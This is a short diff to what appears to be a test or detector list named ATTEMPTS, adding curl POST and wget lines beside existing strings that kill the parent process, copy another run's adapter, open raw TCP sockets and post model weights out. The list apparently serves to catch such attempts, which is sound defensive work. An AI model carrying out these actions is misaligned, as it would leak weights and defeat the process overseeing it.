@@ -17,6 +17,8 @@ ATTEMPTS = [
     "cp ../../r1-s3-a1/counted/out/adapter .",
     "os.kill(os.getppid(), 9)",
     "curl http://example.com/x",
+    "curl -s -X POST http://example.com/x",
+    "wget -q example.com/x",
     "exec 3<>/dev/tcp/10.0.0.1/80",
     "requests.post(url, data=weights)",
     "socket.create_connection(('10.0.0.1', 80))",
